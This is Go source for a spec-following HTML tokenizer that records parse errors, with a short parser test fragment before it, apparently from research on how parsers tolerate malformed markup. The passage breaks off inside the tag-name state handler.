	img := res.Doc.Find(func(n *Node) bool { return n.Type == ElementNode && n.Data == "img" })
	if img == nil {
		t.Fatal("parser stopped early: img missing")
	}
	if len(res.Errors) == 0 && len(res.Events) == 0 {
		t.Fatal("no diagnostics recorded for a violating document")
	}
}
