package htmlparse

import (
	"bytes"
	"strings"
	"unicode/utf8"
)

// state enumerates the tokenizer states of the HTML Living Standard,
// section 13.2.5. The character reference states are implemented as a
// helper routine instead of explicit states, which is an equivalent
// formulation (the spec's return-state mechanism maps onto a call).
type state int

const (
	stateData state = iota
	stateRCDATA
	stateRAWTEXT
	stateScriptData
	statePlaintext
	stateTagOpen
	stateEndTagOpen
	stateTagName
	stateRCDATALessThan
	stateRCDATAEndTagOpen
	stateRCDATAEndTagName
	stateRAWTEXTLessThan
	stateRAWTEXTEndTagOpen
	stateRAWTEXTEndTagName
	stateScriptDataLessThan
	stateScriptDataEndTagOpen
	stateScriptDataEndTagName
	stateScriptDataEscapeStart
	stateScriptDataEscapeStartDash
	stateScriptDataEscaped
	stateScriptDataEscapedDash
	stateScriptDataEscapedDashDash
	stateScriptDataEscapedLessThan
	stateScriptDataEscapedEndTagOpen
	stateScriptDataEscapedEndTagName
	stateScriptDataDoubleEscapeStart
	stateScriptDataDoubleEscaped
	stateScriptDataDoubleEscapedDash
	stateScriptDataDoubleEscapedDashDash
	stateScriptDataDoubleEscapedLessThan
	stateScriptDataDoubleEscapeEnd
	stateBeforeAttributeName
	stateAttributeName
	stateAfterAttributeName
	stateBeforeAttributeValue
	stateAttributeValueDoubleQuoted
	stateAttributeValueSingleQuoted
	stateAttributeValueUnquoted
	stateAfterAttributeValueQuoted
	stateSelfClosingStartTag
	stateBogusComment
	stateMarkupDeclarationOpen
	stateCommentStart
	stateCommentStartDash
	stateComment
	stateCommentLessThan
	stateCommentLessThanBang
	stateCommentLessThanBangDash
	stateCommentLessThanBangDashDash
	stateCommentEndDash
	stateCommentEnd
	stateCommentEndBang
	stateDoctype
	stateBeforeDoctypeName
	stateDoctypeName
	stateAfterDoctypeName
	stateAfterDoctypePublicKeyword
	stateBeforeDoctypePublicIdentifier
	stateDoctypePublicIdentifierDoubleQuoted
	stateDoctypePublicIdentifierSingleQuoted
	stateAfterDoctypePublicIdentifier
	stateBetweenDoctypePublicAndSystemIdentifiers
	stateAfterDoctypeSystemKeyword
	stateBeforeDoctypeSystemIdentifier
	stateDoctypeSystemIdentifierDoubleQuoted
	stateDoctypeSystemIdentifierSingleQuoted
	stateAfterDoctypeSystemIdentifier
	stateBogusDoctype
	stateCDATASection
	stateCDATASectionBracket
	stateCDATASectionEnd
)

// rawTextTags maps tag names to the tokenizer state their content is
// parsed in when the element is in the HTML namespace.
var rawTextTags = map[string]state{
	"title":     stateRCDATA,
	"textarea":  stateRCDATA,
	"style":     stateRAWTEXT,
	"xmp":       stateRAWTEXT,
	"iframe":    stateRAWTEXT,
	"noembed":   stateRAWTEXT,
	"noframes":  stateRAWTEXT,
	"noscript":  stateRAWTEXT, // scripting-enabled profile, as in browsers
	"script":    stateScriptData,
	"plaintext": statePlaintext,
}

const eofRune = rune(-1)

// Tokenizer turns a preprocessed character stream into tokens, recording
// every parse error it passes instead of failing — the "error tolerance"
// behaviour under study.
type Tokenizer struct {
	input []byte
	pos   int
	line  int
	col   int

	// one-step back support for the spec's "reconsume" instruction
	prevPos, prevLine, prevCol int

	state state

	// AutoRaw makes the tokenizer switch itself into RCDATA / RAWTEXT /
	// script data states when it emits a matching start tag. This is the
	// behaviour wanted when the tokenizer runs standalone (streaming
	// checks); the tree builder disables it and drives the switches, since
	// the correct switch depends on the namespace context (a <style> inside
	// <svg> is not raw text — the distinction the Figure 1 mXSS abuses).
	AutoRaw bool

	// AllowCDATA, when non-nil, is consulted at <![CDATA[ to decide whether
	// a CDATA section may start (true while the adjusted current node is in
	// a foreign namespace). The tree builder installs this hook; standalone
	// the construct is the spec's cdata-in-html-content bogus comment.
	AllowCDATA func() bool

	lastStartTag string

	errors []ParseError
	queue  []Token
	qhead  int // queue read index; lets Next reuse the queue's backing array

	textBuf  []byte //hv:view recycled text scratch, reset to [:0] between parses
	textPos  Position
	haveText bool
	// Zero-copy text tracking: while a pending character run is exactly one
	// contiguous, untransformed span of the input, it is carried as
	// [spanStart, spanEnd) instead of being copied into textBuf. The first
	// transformation (character reference, NUL replacement) or
	// discontinuity materializes the span into textBuf and falls back to
	// the copying path.
	spanStart, spanEnd int
	spanOK             bool

	cur Token

	attrName  []byte //hv:view recycled attribute-name scratch
	attrValue []byte //hv:view recycled attribute-value scratch
	attrRaw   []byte //hv:view recycled raw-attribute-value scratch
	// Zero-copy attribute tracking, same scheme as the text span: while the
	// in-progress attribute name (or value) is one untransformed input
	// span, no bytes are copied and finishAttr emits string views instead.
	nameSpanStart, nameSpanEnd int
	nameSpanOK                 bool
	valSpanStart, valSpanEnd   int
	valSpanOK                  bool
	attrPending                bool

	attrQuote  byte
	attrPos    Position
	tmpBuf     []byte //hv:view recycled character-reference scratch
	emittedEOF bool

	// reuseAttrs makes newTag hand the current tag the recycled attrScratch
	// backing array instead of allocating a fresh Attr slice per tag. Safe
	// only for pull-style consumers that do not retain a token past the next
	// Next() call (the streaming checker); the tree builder keeps tokens, so
	// it leaves this off. Correctness relies on the step() invariant: one
	// state-handler dispatch per step and Next() drains the queue before
	// stepping, so the previously emitted tag is always consumed before a
	// new tag can recycle its attribute array.
	reuseAttrs  bool
	attrScratch []Attribute //hv:view recycled Attr backing array under reuseAttrs
}

// NewTokenizer returns a tokenizer over a preprocessed input stream (see
// Preprocess). Standalone use gets automatic raw-text switching.
func NewTokenizer(input []byte) *Tokenizer {
	return &Tokenizer{input: input, line: 1, col: 1, state: stateData, AutoRaw: true}
}

// Errors returns the parse errors recorded so far, in input order.
func (z *Tokenizer) Errors() []ParseError { return z.errors }

// StartRawText switches the content model for the just-emitted start tag,
// as the tree builder does in the "generic raw text / RCDATA parsing
// algorithm". tag must be lowercase.
func (z *Tokenizer) StartRawText(tag string) {
	if s, ok := rawTextTags[tag]; ok {
		z.state = s
		z.lastStartTag = tag
	}
}

// position reports the tokenizer's current position.
func (z *Tokenizer) position() Position {
	return Position{Offset: z.pos, Line: z.line, Col: z.col}
}

//hv:hotpath per-character cursor advance, one call per input rune
func (z *Tokenizer) next() rune {
	z.prevPos, z.prevLine, z.prevCol = z.pos, z.line, z.col
	if z.pos >= len(z.input) {
		return eofRune
	}
	r, size := utf8.DecodeRune(z.input[z.pos:])
	z.pos += size
	if r == '\n' {
		z.line++
		z.col = 1
	} else {
		z.col++
	}
	return r
}

// back un-consumes the most recently consumed character ("reconsume").
//
//hv:hotpath reconsume companion to next
func (z *Tokenizer) back() {
	z.pos, z.line, z.col = z.prevPos, z.prevLine, z.prevCol
}

//hv:hotpath lookahead companion to next
func (z *Tokenizer) peek() rune {
	if z.pos >= len(z.input) {
		return eofRune
	}
	r, _ := utf8.DecodeRune(z.input[z.pos:])
	return r
}

// ---- bulk scanning (the memchr-style hot path) ----

var nlSlice = []byte{'\n'}

// advance moves the cursor past chunk (which must start at z.pos),
// updating line/col bookkeeping in bulk: one newline count and one rune
// count per chunk instead of per-character work. It does not touch the
// one-step reconsume state; callers never back() across a chunk.
//
//hv:hotpath bulk cursor bookkeeping behind every chunk scan
func (z *Tokenizer) advance(chunk []byte) {
	if nl := bytes.Count(chunk, nlSlice); nl > 0 {
		z.line += nl
		z.col = 1 + utf8.RuneCount(chunk[bytes.LastIndexByte(chunk, '\n')+1:])
	} else {
		z.col += utf8.RuneCount(chunk)
	}
	z.pos += len(chunk)
}

// scanUntil consumes and returns the maximal run of input containing
// neither stop byte nor NUL (NUL always terminates a run because every
// content state treats it specially). Pass the same byte twice to scan
// for a single stop byte. The stop byte itself is left unconsumed for the
// caller's next() switch.
//
//hv:hotpath memchr-style bulk scan, the benchmark-gated fast path
func (z *Tokenizer) scanUntil(stop1, stop2 byte) []byte {
	s := z.input[z.pos:]
	n := len(s)
	if i := bytes.IndexByte(s, stop1); i >= 0 {
		n = i
	}
	if stop2 != stop1 {
		if i := bytes.IndexByte(s[:n], stop2); i >= 0 {
			n = i
		}
	}
	if stop1 != 0 {
		if i := bytes.IndexByte(s[:n], 0); i >= 0 {
			n = i
		}
	}
	if n == 0 {
		return nil
	}
	chunk := s[:n]
	z.advance(chunk)
	return chunk
}

// scanTable consumes and returns the maximal run of bytes b with safe[b]
// set. Tables mark every byte a state passes through verbatim; bytes
// needing a transformation (case folding, NUL replacement), a transition,
// or a parse error stay unsafe so the per-rune switch handles them.
//
//hv:hotpath table-driven bulk scan, the benchmark-gated fast path
func (z *Tokenizer) scanTable(safe *[256]bool) []byte {
	s := z.input
	i := z.pos
	for i < len(s) && safe[s[i]] {
		i++
	}
	if i == z.pos {
		return nil
	}
	chunk := s[z.pos:i]
	z.advance(chunk)
	return chunk
}

// tagNameSafe marks bytes a tag name carries verbatim: everything except
// the terminators (whitespace, '/', '>'), NUL (replacement) and ASCII
// uppercase (case folding). Non-ASCII bytes are safe — multi-byte runes
// pass through tag names unchanged.
var tagNameSafe = makeSafeTable("\x00\t\n\f\r />", true)

// attrNameSafe additionally stops at '=' (value separator) and the
// quote/'<' characters that raise unexpected-character-in-attribute-name.
var attrNameSafe = makeSafeTable("\x00\t\n\f\r />=\"'<", true)

// unquotedValueSafe stops at whitespace, '&', '>', NUL and the characters
// that raise unexpected-character-in-unquoted-attribute-value.
var unquotedValueSafe = makeSafeTable("\x00\t\n\f\r &>\"'<=`", false)

// makeSafeTable builds a table with every byte safe except those in
// unsafe; foldUpper additionally marks 'A'..'Z' unsafe.
func makeSafeTable(unsafeBytes string, foldUpper bool) *[256]bool {
	var t [256]bool
	for i := range t {
		t[i] = true
	}
	for i := 0; i < len(unsafeBytes); i++ {
		t[unsafeBytes[i]] = false
	}
	if foldUpper {
		for b := 'A'; b <= 'Z'; b++ {
			t[b] = false
		}
	}
	return &t
}

func (z *Tokenizer) parseError(code ErrorCode, detail string) {
	z.errors = append(z.errors, ParseError{Code: code, Pos: z.position(), Detail: detail})
}

//hv:hotpath per-rune text accumulation into recycled scratch
func (z *Tokenizer) appendText(r rune) {
	if !z.haveText {
		// The run starts at the character just consumed.
		z.textPos = Position{Offset: z.prevPos, Line: z.prevLine, Col: z.prevCol}
		z.haveText = true
	}
	z.materializeTextSpan()
	z.textBuf = utf8.AppendRune(z.textBuf, r)
}

//hv:hotpath text accumulation for decoded character references
func (z *Tokenizer) appendTextString(s string) {
	if s == "" {
		return
	}
	if !z.haveText {
		z.textPos = Position{Offset: z.prevPos, Line: z.prevLine, Col: z.prevCol}
		z.haveText = true
	}
	z.materializeTextSpan()
	z.textBuf = append(z.textBuf, s...)
}

// appendTextChunk adds a bulk-scanned input span [off, off+n) to the
// pending character run. A run that starts with a chunk stays a zero-copy
// span while subsequent chunks extend it contiguously; any per-rune
// append or discontinuity first materializes the span into textBuf.
//
//hv:hotpath chunked text accumulation, zero-copy span fast path
func (z *Tokenizer) appendTextChunk(off, n, line, col int) {
	if !z.haveText {
		z.textPos = Position{Offset: off, Line: line, Col: col}
		z.haveText = true
		z.spanStart, z.spanEnd, z.spanOK = off, off+n, true
		return
	}
	if z.spanOK && z.spanEnd == off {
		z.spanEnd += n
		return
	}
	z.materializeTextSpan()
	z.textBuf = append(z.textBuf, z.input[off:off+n]...)
}

//hv:hotpath span fallback shared by every text append
func (z *Tokenizer) materializeTextSpan() {
	if z.spanOK {
		z.textBuf = append(z.textBuf, z.input[z.spanStart:z.spanEnd]...)
		z.spanOK = false
	}
}

func (z *Tokenizer) flushText() {
	if !z.haveText {
		return
	}
	var data string
	if z.spanOK && len(z.textBuf) == 0 {
		data = zcString(z.input[z.spanStart:z.spanEnd])
	} else {
		z.materializeTextSpan()
		data = string(z.textBuf)
	}
	z.queue = append(z.queue, Token{Type: CharacterToken, Data: data, Pos: z.textPos})
	z.textBuf = z.textBuf[:0]
	z.haveText = false
	z.spanOK = false
}

func (z *Tokenizer) emit(t Token) {
	z.flushText()
	if t.Type == StartTagToken {
		z.lastStartTag = t.Data
		if z.AutoRaw && !t.SelfClosing {
			if s, ok := rawTextTags[t.Data]; ok {
				z.state = s
			}
		}
	}
	if z.reuseAttrs && t.Attr != nil {
		// The emitted token owns the scratch array until the consumer moves
		// past it; reclaim the (possibly grown) backing array for the next tag.
		z.attrScratch = t.Attr
	}
	z.queue = append(z.queue, t)
}

func (z *Tokenizer) emitEOF() {
	z.flushText()
	z.queue = append(z.queue, Token{Type: EOFToken, Pos: z.position()})
	z.emittedEOF = true
}

// Next returns the next token. After the input is exhausted it returns
// EOFToken forever.
func (z *Tokenizer) Next() Token {
	for z.qhead >= len(z.queue) {
		if z.emittedEOF {
			return Token{Type: EOFToken, Pos: z.position()}
		}
		// Drained: rewind so step() refills the same backing array.
		z.queue = z.queue[:0]
		z.qhead = 0
		z.step()
	}
	t := z.queue[z.qhead]
	z.qhead++
	return t
}

// ---- current tag/comment/doctype helpers ----

func (z *Tokenizer) newTag(tt TokenType) {
	z.cur = Token{Type: tt, Pos: z.position()}
	if z.reuseAttrs {
		z.cur.Attr = z.attrScratch[:0]
	}
}

func (z *Tokenizer) startNewAttr() {
	z.attrName = z.attrName[:0]
	z.attrValue = z.attrValue[:0]
	z.attrRaw = z.attrRaw[:0]
	z.attrQuote = 0
	z.attrPos = z.position()
	z.nameSpanOK = false
	z.valSpanOK = false
	z.attrPending = true
}

// appendNameChunk adds a bulk-scanned span to the in-progress attribute
// name, keeping it zero-copy while it is one contiguous untransformed run.
//
//hv:hotpath chunked attribute-name accumulation
func (z *Tokenizer) appendNameChunk(off, n int) {
	if z.nameSpanOK && z.nameSpanEnd == off {
		z.nameSpanEnd += n
		return
	}
	if !z.nameSpanOK && len(z.attrName) == 0 {
		z.nameSpanStart, z.nameSpanEnd, z.nameSpanOK = off, off+n, true
		return
	}
	z.materializeNameSpan()
	z.attrName = append(z.attrName, z.input[off:off+n]...)
}

//hv:hotpath span fallback for attribute names
func (z *Tokenizer) materializeNameSpan() {
	if z.nameSpanOK {
		z.attrName = append(z.attrName, z.input[z.nameSpanStart:z.nameSpanEnd]...)
		z.nameSpanOK = false
	}
}

// appendValueChunk is appendNameChunk for the value; a plain byte run
// contributes identically to the decoded value and the raw source, so one
// span stands in for both buffers.
//
//hv:hotpath chunked attribute-value accumulation
func (z *Tokenizer) appendValueChunk(off, n int) {
	if z.valSpanOK && z.valSpanEnd == off {
		z.valSpanEnd += n
		return
	}
	if !z.valSpanOK && len(z.attrValue) == 0 && len(z.attrRaw) == 0 {
		z.valSpanStart, z.valSpanEnd, z.valSpanOK = off, off+n, true
		return
	}
	z.materializeValSpan()
	z.attrValue = append(z.attrValue, z.input[off:off+n]...)
	z.attrRaw = append(z.attrRaw, z.input[off:off+n]...)
}

//hv:hotpath span fallback for attribute values
func (z *Tokenizer) materializeValSpan() {
	if z.valSpanOK {
		z.attrValue = append(z.attrValue, z.input[z.valSpanStart:z.valSpanEnd]...)
		z.attrRaw = append(z.attrRaw, z.input[z.valSpanStart:z.valSpanEnd]...)
		z.valSpanOK = false
	}
}

// finishAttr commits the in-progress attribute to the current tag token,
// flagging duplicates (the DM3 signal).
func (z *Tokenizer) finishAttr() {
	if !z.attrPending {
		return
	}
	z.attrPending = false
	var name string
	if z.nameSpanOK && len(z.attrName) == 0 {
		name = zcString(z.input[z.nameSpanStart:z.nameSpanEnd])
	} else {
		z.materializeNameSpan()
		name = string(z.attrName)
	}
	a := Attribute{
		Name:  name,
		Quote: z.attrQuote,
		Pos:   z.attrPos,
	}
	if z.valSpanOK && len(z.attrValue) == 0 && len(z.attrRaw) == 0 {
		v := zcString(z.input[z.valSpanStart:z.valSpanEnd])
		a.Value, a.RawValue = v, v
	} else {
		z.materializeValSpan()
		a.Value = string(z.attrValue)
		a.RawValue = string(z.attrRaw)
	}
	for i := range z.cur.Attr {
		if z.cur.Attr[i].Name == name {
			a.Duplicate = true
			z.parseError(ErrDuplicateAttribute, name)
			break
		}
	}
	z.cur.Attr = append(z.cur.Attr, a)
	z.attrName = z.attrName[:0]
	z.attrValue = z.attrValue[:0]
	z.attrRaw = z.attrRaw[:0]
	z.attrQuote = 0
	z.nameSpanOK = false
	z.valSpanOK = false
}

func (z *Tokenizer) emitCurrentTag() {
	z.finishAttr()
	if z.cur.Type == EndTagToken {
		if len(z.cur.Attr) > 0 {
			z.parseError(ErrEndTagWithAttributes, z.cur.Data)
			z.cur.Attr = nil
		}
		if z.cur.SelfClosing {
			z.parseError(ErrEndTagWithTrailingSolidus, z.cur.Data)
			z.cur.SelfClosing = false
		}
	}
	z.emit(z.cur)
}

// appropriateEndTag reports whether the current end tag token matches the
// last emitted start tag (relevant in RCDATA/RAWTEXT/script states).
func (z *Tokenizer) appropriateEndTag() bool {
	return z.cur.Data == z.lastStartTag
}

// ---- character references (spec 13.2.5.72 .. 13.2.5.80) ----

// consumeCharRef runs the character reference algorithm. inAttr selects the
// attribute-value variant. It returns the decoded text and the raw source
// consumed (for RawValue bookkeeping).
func (z *Tokenizer) consumeCharRef(inAttr bool) (decoded, raw string) {
	start := z.pos // position after '&'
	r := z.peek()
	switch {
	case isASCIIAlnum(r):
		return z.consumeNamedCharRef(inAttr, start)
	case r == '#':
		z.next()
		return z.consumeNumericCharRef(start)
	default:
		return "&", "&"
	}
}

func (z *Tokenizer) consumeNamedCharRef(inAttr bool, start int) (decoded, raw string) {
	// Greedily take alphanumeric characters (bounded by the longest name),
	// then find the longest match with or without a trailing semicolon.
	end := start
	for end < len(z.input) && end-start < maxEntityNameLen && isASCIIAlnumByte(z.input[end]) {
		end++
	}
	candidate := zcString(z.input[start:end])
	for l := len(candidate); l > 0; l-- {
		name := candidate[:l]
		withSemicolon := start+l < len(z.input) && z.input[start+l] == ';'
		if withSemicolon {
			if rep, ok := namedEntities[name]; ok {
				z.advanceTo(start + l + 1)
				return rep, "&" + name + ";"
			}
		}
		if rep, ok := legacyEntities[name]; ok {
			// Historical quirk: inside an attribute, a legacy reference
			// followed by '=' or an alphanumeric is NOT decoded.
			if inAttr && start+l < len(z.input) {
				nb := z.input[start+l]
				if nb == '=' || isASCIIAlnumByte(nb) {
					continue
				}
			}
			z.advanceTo(start + l)
			z.parseError(ErrMissingSemicolonAfterCharRef, name)
			return rep, "&" + name
		}
	}
	// No match: ambiguous ampersand. Flush the characters as-is; if the run
	// ends with a semicolon this is an unknown-named-character-reference.
	z.advanceTo(end)
	if end < len(z.input) && z.input[end] == ';' && end > start {
		z.parseError(ErrUnknownNamedCharacterReference, candidate)
	}
	return "&" + candidate, "&" + candidate
}

func isASCIIAlnumByte(b byte) bool {
	return ('a' <= b && b <= 'z') || ('A' <= b && b <= 'Z') || ('0' <= b && b <= '9')
}

// advanceTo moves the cursor to absolute offset off (a rune boundary),
// updating line/col in bulk. The reconsume snapshot lands on the last rune
// of the chunk, exactly as a next() loop would leave it.
func (z *Tokenizer) advanceTo(off int) {
	if off <= z.pos {
		return
	}
	chunk := z.input[z.pos:off]
	_, last := utf8.DecodeLastRune(chunk)
	if pre := chunk[:len(chunk)-last]; len(pre) > 0 {
		z.advance(pre)
	}
	z.prevPos, z.prevLine, z.prevCol = z.pos, z.line, z.col
	z.advance(chunk[len(chunk)-last:])
}

func (z *Tokenizer) consumeNumericCharRef(ampStart int) (decoded, raw string) {
	code := 0
	digits := 0
	hex := false
	if r := z.peek(); r == 'x' || r == 'X' {
		hex = true
		z.next()
	}
	for {
		r := z.peek()
		if hex && isASCIIHex(r) {
			z.next()
			code = code*16 + hexVal(r)
			digits++
		} else if !hex && isASCIIDigit(r) {
			z.next()
			code = code*10 + int(r-'0')
			digits++
		} else {
			break
		}
		if code > 0x10FFFF {
			code = 0x110000 // clamp; still counts as out of range
		}
	}
	rawRef := "&" + string(z.input[ampStart:z.pos])
	if digits == 0 {
		z.parseError(ErrAbsenceOfDigitsInNumericCharRef, "")
		return rawRef, rawRef
	}
	if z.peek() == ';' {
		z.next()
		rawRef += ";"
	} else {
		z.parseError(ErrMissingSemicolonAfterCharRef, "")
	}
	r := rune(code)
	switch {
	case code == 0:
		z.parseError(ErrNullCharacterReference, "")
		r = '�'
	case code > 0x10FFFF:
		z.parseError(ErrCharRefOutsideUnicodeRange, "")
		r = '�'
	case r >= 0xD800 && r <= 0xDFFF:
		z.parseError(ErrSurrogateCharacterReference, "")
		r = '�'
	case isNoncharacter(r):
		z.parseError(ErrNoncharacterCharacterReference, "")
	case isBadControl(r) || r == 0x0D:
		z.parseError(ErrControlCharacterReference, "")
		if rep, ok := numericReplacements[r]; ok {
			r = rep
		}
	}
	return string(r), rawRef
}

func hexVal(r rune) int {
	switch {
	case isASCIIDigit(r):
		return int(r - '0')
	case r >= 'a' && r <= 'f':
		return int(r-'a') + 10
	default:
		return int(r-'A') + 10
	}
}

// flushCharRefToAttr appends a decoded reference to the current attribute.
func (z *Tokenizer) flushCharRefToAttr() {
	dec, raw := z.consumeCharRef(true)
	z.materializeValSpan()
	z.attrValue = append(z.attrValue, dec...)
	z.attrRaw = append(z.attrRaw, raw...)
}

// ---- the state machine ----

// step consumes input in the current state until it either emits at least
// one token or transitions; it implements one spec state's character rules
// per invocation round.
func (z *Tokenizer) step() {
	switch z.state {
	case stateData:
		z.dataState()
	case stateRCDATA:
		z.rcdataState()
	case stateRAWTEXT:
		z.rawtextState()
	case stateScriptData:
		z.scriptDataState()
	case statePlaintext:
		z.plaintextState()
	case stateTagOpen:
		z.tagOpenState()
	case stateEndTagOpen:
		z.endTagOpenState()
	case stateTagName:
		z.tagNameState()
	case stateRCDATALessThan:
		z.rawLessThanState(stateRCDATA, stateRCDATAEndTagOpen)
	case stateRCDATAEndTagOpen:
		z.rawEndTagOpenState(stateRCDATA, stateRCDATAEndTagName)
	case stateRCDATAEndTagName:
		z.rawEndTagNameState(stateRCDATA)
	case stateRAWTEXTLessThan:
		z.rawLessThanState(stateRAWTEXT, stateRAWTEXTEndTagOpen)
	case stateRAWTEXTEndTagOpen:
		z.rawEndTagOpenState(stateRAWTEXT, stateRAWTEXTEndTagName)
	case stateRAWTEXTEndTagName:
		z.rawEndTagNameState(stateRAWTEXT)
	case stateScriptDataLessThan:
		z.scriptDataLessThanState()
	case stateScriptDataEndTagOpen:
		z.rawEndTagOpenState(stateScriptData, stateScriptDataEndTagName)
	case stateScriptDataEndTagName:
		z.rawEndTagNameState(stateScriptData)
	case stateScriptDataEscapeStart:
		z.scriptDataEscapeStartState()
	case stateScriptDataEscapeStartDash:
		z.scriptDataEscapeStartDashState()
	case stateScriptDataEscaped:
		z.scriptDataEscapedState()
	case stateScriptDataEscapedDash:
		z.scriptDataEscapedDashState()
	case stateScriptDataEscapedDashDash:
		z.scriptDataEscapedDashDashState()
	case stateScriptDataEscapedLessThan:
		z.scriptDataEscapedLessThanState()
	case stateScriptDataEscapedEndTagOpen:
		z.rawEndTagOpenState(stateScriptDataEscaped, stateScriptDataEscapedEndTagName)
	case stateScriptDataEscapedEndTagName:
		z.rawEndTagNameState(stateScriptDataEscaped)
	case stateScriptDataDoubleEscapeStart:
		z.scriptDataDoubleEscapeStartState()
	case stateScriptDataDoubleEscaped:
		z.scriptDataDoubleEscapedState()
	case stateScriptDataDoubleEscapedDash:
		z.scriptDataDoubleEscapedDashState()
	case stateScriptDataDoubleEscapedDashDash:
		z.scriptDataDoubleEscapedDashDashState()
	case stateScriptDataDoubleEscapedLessThan:
		z.scriptDataDoubleEscapedLessThanState()
	case stateScriptDataDoubleEscapeEnd:
		z.scriptDataDoubleEscapeEndState()
	case stateBeforeAttributeName:
		z.beforeAttributeNameState()
	case stateAttributeName:
		z.attributeNameState()
	case stateAfterAttributeName:
		z.afterAttributeNameState()
	case stateBeforeAttributeValue:
		z.beforeAttributeValueState()
	case stateAttributeValueDoubleQuoted:
		z.attributeValueQuotedState('"')
	case stateAttributeValueSingleQuoted:
		z.attributeValueQuotedState('\'')
	case stateAttributeValueUnquoted:
		z.attributeValueUnquotedState()
	case stateAfterAttributeValueQuoted:
		z.afterAttributeValueQuotedState()
	case stateSelfClosingStartTag:
		z.selfClosingStartTagState()
	case stateBogusComment:
		z.bogusCommentState()
	case stateMarkupDeclarationOpen:
		z.markupDeclarationOpenState()
	case stateCommentStart:
		z.commentStartState()
	case stateCommentStartDash:
		z.commentStartDashState()
	case stateComment:
		z.commentState()
	case stateCommentLessThan:
		z.commentLessThanState()
	case stateCommentLessThanBang:
		z.commentLessThanBangState()
	case stateCommentLessThanBangDash:
		z.commentLessThanBangDashState()
	case stateCommentLessThanBangDashDash:
		z.commentLessThanBangDashDashState()
	case stateCommentEndDash:
		z.commentEndDashState()
	case stateCommentEnd:
		z.commentEndState()
	case stateCommentEndBang:
		z.commentEndBangState()
	case stateDoctype:
		z.doctypeState()
	case stateBeforeDoctypeName:
		z.beforeDoctypeNameState()
	case stateDoctypeName:
		z.doctypeNameState()
	case stateAfterDoctypeName:
		z.afterDoctypeNameState()
	case stateAfterDoctypePublicKeyword:
		z.afterDoctypePublicKeywordState()
	case stateBeforeDoctypePublicIdentifier:
		z.beforeDoctypePublicIdentifierState()
	case stateDoctypePublicIdentifierDoubleQuoted:
		z.doctypePublicIdentifierState('"')
	case stateDoctypePublicIdentifierSingleQuoted:
		z.doctypePublicIdentifierState('\'')
	case stateAfterDoctypePublicIdentifier:
		z.afterDoctypePublicIdentifierState()
	case stateBetweenDoctypePublicAndSystemIdentifiers:
		z.betweenDoctypePublicAndSystemIdentifiersState()
	case stateAfterDoctypeSystemKeyword:
		z.afterDoctypeSystemKeywordState()
	case stateBeforeDoctypeSystemIdentifier:
		z.beforeDoctypeSystemIdentifierState()
	case stateDoctypeSystemIdentifierDoubleQuoted:
		z.doctypeSystemIdentifierState('"')
	case stateDoctypeSystemIdentifierSingleQuoted:
		z.doctypeSystemIdentifierState('\'')
	case stateAfterDoctypeSystemIdentifier:
		z.afterDoctypeSystemIdentifierState()
	case stateBogusDoctype:
		z.bogusDoctypeState()
	case stateCDATASection:
		z.cdataSectionState()
	case stateCDATASectionBracket:
		z.cdataSectionBracketState()
	case stateCDATASectionEnd:
		z.cdataSectionEndState()
	}
}

func (z *Tokenizer) dataState() {
	for {
		off, line, col := z.pos, z.line, z.col
		if chunk := z.scanUntil('<', '&'); chunk != nil {
			z.appendTextChunk(off, len(chunk), line, col)
		}
		switch r := z.next(); r {
		case '&':
			dec, _ := z.consumeCharRef(false)
			z.appendTextString(dec)
		case '<':
			z.state = stateTagOpen
			return
		case 0:
			z.parseError(ErrUnexpectedNullCharacter, "")
			z.appendText(0)
		case eofRune:
			z.emitEOF()
			return
		default:
			z.appendText(r)
		}
	}
}

func (z *Tokenizer) rcdataState() {
	for {
		off, line, col := z.pos, z.line, z.col
		if chunk := z.scanUntil('<', '&'); chunk != nil {
			z.appendTextChunk(off, len(chunk), line, col)
		}
		switch r := z.next(); r {
		case '&':
			dec, _ := z.consumeCharRef(false)
			z.appendTextString(dec)
		case '<':
			z.state = stateRCDATALessThan
			return
		case 0:
			z.parseError(ErrUnexpectedNullCharacter, "")
			z.appendText('�')
		case eofRune:
			z.emitEOF()
			return
		default:
			z.appendText(r)
		}
	}
}

func (z *Tokenizer) rawtextState() {
	for {
		off, line, col := z.pos, z.line, z.col
		if chunk := z.scanUntil('<', '<'); chunk != nil {
			z.appendTextChunk(off, len(chunk), line, col)
		}
		switch r := z.next(); r {
		case '<':
			z.state = stateRAWTEXTLessThan
			return
		case 0:
			z.parseError(ErrUnexpectedNullCharacter, "")
			z.appendText('�')
		case eofRune:
			z.emitEOF()
			return
		default:
			z.appendText(r)
		}
	}
}

func (z *Tokenizer) scriptDataState() {
	for {
		off, line, col := z.pos, z.line, z.col
		if chunk := z.scanUntil('<', '<'); chunk != nil {
			z.appendTextChunk(off, len(chunk), line, col)
		}
		switch r := z.next(); r {
		case '<':
			z.state = stateScriptDataLessThan
			return
		case 0:
			z.parseError(ErrUnexpectedNullCharacter, "")
			z.appendText('�')
		case eofRune:
			z.emitEOF()
			return
		default:
			z.appendText(r)
		}
	}
}

func (z *Tokenizer) plaintextState() {
	for {
		off, line, col := z.pos, z.line, z.col
		if chunk := z.scanUntil(0, 0); chunk != nil {
			z.appendTextChunk(off, len(chunk), line, col)
		}
		switch r := z.next(); r {
		case 0:
			z.parseError(ErrUnexpectedNullCharacter, "")
			z.appendText('�')
		case eofRune:
			z.emitEOF()
			return
		default:
			z.appendText(r)
		}
	}
}

func (z *Tokenizer) tagOpenState() {
	switch r := z.next(); {
	case r == '!':
		z.state = stateMarkupDeclarationOpen
	case r == '/':
		z.state = stateEndTagOpen
	case isASCIIAlpha(r):
		z.newTag(StartTagToken)
		z.back()
		z.state = stateTagName
	case r == '?':
		z.parseError(ErrUnexpectedQuestionMarkInsteadOfTag, "")
		z.cur = Token{Type: CommentToken, Pos: z.position()}
		z.back()
		z.state = stateBogusComment
	case r == eofRune:
		z.parseError(ErrEOFBeforeTagName, "")
		z.appendText('<')
		z.emitEOF()
	default:
		z.parseError(ErrInvalidFirstCharacterOfTagName, string(r))
		z.appendText('<')
		z.back()
		z.state = stateData
	}
}

func (z *Tokenizer) endTagOpenState() {
	switch r := z.next(); {
	case isASCIIAlpha(r):
		z.newTag(EndTagToken)
		z.back()
		z.state = stateTagName
	case r == '>':
		z.parseError(ErrMissingEndTagName, "")
		z.state = stateData
	case r == eofRune:
		z.parseError(ErrEOFBeforeTagName, "")
		z.appendTextString("</")
		z.emitEOF()
	default:
		z.parseError(ErrInvalidFirstCharacterOfTagName, string(r))
		z.cur = Token{Type: CommentToken, Pos: z.position()}
		z.back()
		z.state = stateBogusComment
	}
}

func (z *Tokenizer) tagNameState() {
